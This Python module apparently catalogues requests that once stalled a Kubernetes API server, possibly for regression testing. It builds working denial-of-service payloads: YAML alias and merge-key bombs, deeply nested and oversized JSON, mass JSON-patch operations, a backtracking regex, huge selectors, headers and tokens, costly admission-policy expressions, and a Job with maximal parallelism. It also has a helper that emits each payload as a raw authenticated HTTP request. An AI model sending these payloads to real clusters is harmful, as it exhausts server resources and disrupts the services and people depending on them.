"""Requests that once took the server for long, or may: each with a size that whoever attacks would choose."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

MAPS = "/api/v1/namespaces/default/configmaps"
THINGS = "/apis/attack.example/v1/namespaces/default/things"
YAML, APPLY = "application/yaml", "application/apply-patch+yaml"
STRATEGIC, JSON_PATCH = "application/strategic-merge-patch+json", "application/json-patch+json"
MERGE = "application/merge-patch+json"
TABLE = "application/json;as=Table;v=v1;g=meta.k8s.io"


@dataclass(frozen=True)
class Attack:
    """One request, and whether it needs a credential."""

    method: str
    path: str
    body: bytes = b""
    headers: Mapping[str, str] = field(default_factory=dict)
    known: bool = True


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


def _object(kind: str, name: str, version: str = "v1", **parts: Any) -> dict[str, Any]:
    return {"apiVersion": version, "kind": kind, "metadata": {"name": name}, **parts}


def preparation() -> Iterator[tuple[str, dict[str, Any]]]:
    """The path and the object of what has to be there."""
    rules = [{"rule": "self.items.all(a, self.items.all(b, a == b || a != b))"}]
    items = {"type": "array", "maxItems": 100, "items": {"type": "string", "maxLength": 20}}
    properties = {
        "spec": {
            "type": "object",
            "properties": {
                "items": items,
                "wait": {"type": "string", "format": "duration"},
                "word": {"type": "string", "pattern": "^(a+)+$"},
            },
            "x-kubernetes-preserve-unknown-fields": True,
            "x-kubernetes-validations": [{"rule": "!has(self.items) || " + rules[0]["rule"]}],
        }
    }
    version = {
        "name": "v1",
        "served": True,
        "storage": True,
        "schema": {"openAPIV3Schema": {"type": "object", "properties": properties}},
    }
    names = {"plural": "things", "kind": "Thing"}
    spec = {"group": "attack.example", "scope": "Namespaced", "names": names, "versions": [version]}
    definitions = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
    yield (
        definitions,
        _object("CustomResourceDefinition", "things.attack.example", "apiextensions.k8s.io/v1", spec=spec),
    )
    yield MAPS, _object("ConfigMap", "target", metadata={"name": "target", "finalizers": _finalizers(1000)})
    yield MAPS, _object("ConfigMap", "large", data={f"key-{n}": "x" * 90 for n in range(8000)})


def _finalizers(count: int, first: int = 0) -> list[str]:
    return [f"attack.example/f{number}" for number in range(first, first + count)]


def _yaml_aliases() -> bytes:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    return "\n".join(lines).encode()


def _yaml_merges(count: int) -> bytes:
    keys = ", ".join(f"k{n}: v" for n in range(count))
    return f"base: &b {{{keys}}}\ndata:\n".encode() + b"".join(b"  d%d: {<<: *b}\n" % n for n in range(count))


def _custom(spec: bytes) -> bytes:
    return b'{"apiVersion":"attack.example/v1","kind":"Thing","metadata":{"generateName":"t-"},"spec":%s}' % spec


def attacks() -> dict[str, Attack]:
    """All of them by name."""
    applied = f"{MAPS}/applied?fieldManager=m&force=true"
    many = {f"key-{number}": "v" for number in range(20_000)}
    jwt = ".".join(("eyJhbGciOiJSUzI1NiJ9", "e30" * 100_000, "c2ln" * 2000))
    return {
        "YAML, flow depth": Attack("POST", MAPS, b"a: " + b"[" * 750_000 + b"]" * 750_000, {"content-type": YAML}),
        "YAML, many values": Attack("POST", MAPS, b"data:\n" + b"  k: [a, b, c]\n" * 100_000, {"content-type": YAML}),
        "YAML, aliases": Attack("POST", MAPS, _yaml_aliases(), {"content-type": YAML}),
        "YAML, merge keys": Attack("POST", MAPS, _yaml_merges(2000), {"content-type": YAML}),
        "JSON, many keys": Attack("POST", MAPS, _json(_object("ConfigMap", "m", data=many, metadata={}))),
        "JSON, one number": Attack("POST", MAPS, b'{"n":' + b"1" * 2_900_000 + b"}"),
        "JSON, unknown fields": Attack("POST", MAPS, _json({f"f{n}": n for n in range(100_000)})),
        "JSON, empty lists": Attack("POST", MAPS, b'{"data":[' + b"[]," * 900_000 + b"[]]}"),
        "JSON, not closed": Attack("POST", MAPS, b"[" * 2_900_000),
        "apply": Attack("PATCH", applied, _json(_object("ConfigMap", "applied", data=many)), {"content-type": APPLY}),
        "strategic merge": Attack(
            "PATCH",
            f"{MAPS}/target?dryRun=All",
            _json({"metadata": {"finalizers": _finalizers(20_000, 500)}}),
            {"content-type": STRATEGIC},
        ),
        "JSON patch, copies": Attack(
            "PATCH",
            f"{MAPS}/large?dryRun=All",
            _json([{"op": "copy", "from": "/data", "path": f"/data/c{n}"} for n in range(9000)]),
            {"content-type": JSON_PATCH},
        ),
        "JSON patch, tests": Attack(
            "PATCH",
            f"{MAPS}/target?dryRun=All",
            _json([{"op": "add", "path": "/metadata/finalizers/0", "value": "attack.example/x"}] * 9999),
            {"content-type": JSON_PATCH},
        ),
        "merge patch of a large object": Attack(
            "PATCH", f"{MAPS}/large?dryRun=All", b'{"data":{"a":"b"}}', {"content-type": MERGE}
        ),
        "format duration": Attack("POST", f"{THINGS}?dryRun=All", _custom(b'{"wait":"%s!"}' % (b"1h" * 100_000))),
        "pattern": Attack("POST", f"{THINGS}?dryRun=All", _custom(b'{"word":"%s!"}' % (b"a" * 500_000))),
        "rules": Attack(
            "POST", f"{THINGS}?dryRun=All", _custom(_json({"items": [f"i{number}" for number in range(100)]}))
        ),
        "depth": Attack("POST", f"{THINGS}?dryRun=All", _custom(b'{"a":' * 5000 + b"1" + b"}" * 5000)),
        "timeout": Attack("GET", "/version?timeout=" + "1s" * 250_000, known=False),
        "label selector": Attack("GET", f"{MAPS}?labelSelector=" + "a%20in%20(b),!c," * 30_000),
        "field selector": Attack(
            "GET", f"{MAPS}?fieldSelector=metadata.name%21%3Da" + ",metadata.name%21%3Db" * 20_000
        ),
        "list as a table": Attack("GET", MAPS, headers={"accept": TABLE}),
        "list as YAML": Attack("GET", f"{MAPS}?limit=500", headers={"accept": YAML}),
        "list as protobuf": Attack("GET", MAPS, headers={"accept": "application/vnd.kubernetes.protobuf"}),
        "list, indented": Attack("GET", f"{MAPS}?pretty=1"),
        "large object as YAML": Attack("GET", f"{MAPS}/large", headers={"accept": YAML}),
        "OpenAPI": Attack("GET", "/openapi/v2"),
        "metrics": Attack("GET", "/metrics"),
        "bearer token": Attack("GET", MAPS, headers={"authorization": f"Bearer {jwt}"}, known=False),
        "accept": Attack("GET", MAPS, headers={"accept": "a/b;q=0.1," * 80_000}),
        "impersonated groups": Attack(
            "GET", MAPS, headers={"impersonate-user": "ann", "impersonate-extra-" + "a" * 60_000: "b" * 500_000}
        ),
        "path": Attack("GET", "/api/v1/namespaces/" + "%41" * 300_000 + "/pods", known=False),
        "query": Attack("GET", f"{MAPS}?" + "a=b&" * 200_000),
        "token review": Attack(
            "POST",
            "/apis/authentication.k8s.io/v1/tokenreviews",
            _json({"apiVersion": "authentication.k8s.io/v1", "kind": "TokenReview", "spec": {"token": jwt}}),
        ),
        "rules review": Attack(
            "POST",
            "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
            _json(
                {
                    "apiVersion": "authorization.k8s.io/v1",
                    "kind": "SelfSubjectRulesReview",
                    "spec": {"namespace": "default"},
                }
            ),
        ),
        "job of a great many pods": Attack(
            "POST",
            "/apis/batch/v1/namespaces/default/jobs",
            _json(
                {
                    "apiVersion": "batch/v1",
                    "kind": "Job",
                    "metadata": {"generateName": "j-"},
                    "spec": {
                        "parallelism": 2**31 - 1,
                        "completions": 2**31 - 1,
                        "template": {"spec": {"restartPolicy": "Never", "containers": [{"name": "a", "image": "a"}]}},
                    },
                }
            ),
        ),
        "definition with many rules": Attack(
            "POST",
            "/apis/apiextensions.k8s.io/v1/customresourcedefinitions?dryRun=All",
            _json(_wide_definition(500)),
        ),
        "policy with a long expression": Attack(
            "POST",
            "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies?dryRun=All",
            _json(_policy(" && ".join(["object.metadata.name == 'a'"] * 3000))),
        ),
        "policy with nested macros": Attack(
            "POST",
            "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies?dryRun=All",
            _json(_policy("".join(f"[1].all(a{n}, " for n in range(60)) + "true" + ")" * 60)),
        ),
    }


def _wide_definition(count: int) -> dict[str, Any]:
    rules = [{"rule": f"self.f{n} == 'a' || self.f{n}.matches('^(a|b)*{n}$')"} for n in range(count)]
    fields = {f"f{n}": {"type": "string", "maxLength": 10} for n in range(count)}
    schema = {
        "type": "object",
        "properties": {"spec": {"type": "object", "properties": fields, "x-kubernetes-validations": rules}},
    }
    versions = [{"name": "v1", "served": True, "storage": True, "schema": {"openAPIV3Schema": schema}}]
    spec = {
        "group": "wide.example",
        "scope": "Namespaced",
        "names": {"plural": "wides", "kind": "Wide"},
        "versions": versions,
    }
    return _object("CustomResourceDefinition", "wides.wide.example", "apiextensions.k8s.io/v1", spec=spec)


def _policy(expression: str) -> dict[str, Any]:
    rules = [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}]
    spec = {"matchConstraints": {"resourceRules": rules}, "validations": [{"expression": expression}]}
    return _object("ValidatingAdmissionPolicy", "p", "admissionregistration.k8s.io/v1", spec=spec)


def requests_of(attack: Attack, host: str, token: str) -> bytes:
    """The bytes of the attack as one HTTP request."""
    headers: Sequence[tuple[str, str]] = [("host", host), *attack.headers.items()]
    if attack.known:
        headers = [*headers, ("authorization", f"Bearer {token}")]
    if attack.body or attack.method not in ("GET", "HEAD"):
        headers = [*headers, ("content-length", str(len(attack.body)))]
    if attack.body and "content-type" not in attack.headers:
        headers = [*headers, ("content-type", "application/json")]
    lines = [f"{attack.method} {attack.path} HTTP/1.1", *(f"{name}: {value}" for name, value in headers)]
    return "\r\n".join((*lines, "", "")).encode() + attack.body
